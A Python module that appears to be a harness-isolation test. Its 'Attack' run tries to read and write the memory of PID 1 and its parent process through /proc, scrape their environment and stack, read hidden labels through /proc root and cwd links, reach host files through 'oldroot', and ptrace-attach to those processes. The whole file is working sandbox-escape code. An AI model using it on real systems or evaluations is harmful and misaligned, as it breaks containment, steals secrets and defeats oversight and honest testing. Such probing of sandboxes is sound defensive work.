"""Reads and writes the memory of the first process of its room and of its guard, and takes the places they see."""

import os
from pathlib import Path

from aim import AIM, LIBC, attempt, grep, loot, read

from run import ZEWDPCBaseRun

ATTACH, SEIZE = 16, 0x4206


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        for pid in (1, os.getppid()):
            for name in ("mem", "environ", "auxv", "syscall", "stack", "personality"):
                if (attempt(os.open, f"/proc/{pid}/{name}", os.O_RDWR) if name == "mem" else None) is not None:
                    loot(f"the memory of process {pid}")
                if name != "mem":
                    grep(attempt(Path(f"/proc/{pid}/{name}").read_bytes) or b"")
            for place in ("root", "cwd"):
                read(f"/proc/{pid}/{place}{AIM['labels']}")
                if attempt(os.listdir, f"/proc/{pid}/{place}/oldroot"):
                    loot("the machine's own files")
            if LIBC.ptrace(SEIZE, pid, 0, 0) == 0 or LIBC.ptrace(ATTACH, pid, 0, 0) == 0:
                loot(f"process {pid} as its debugger")
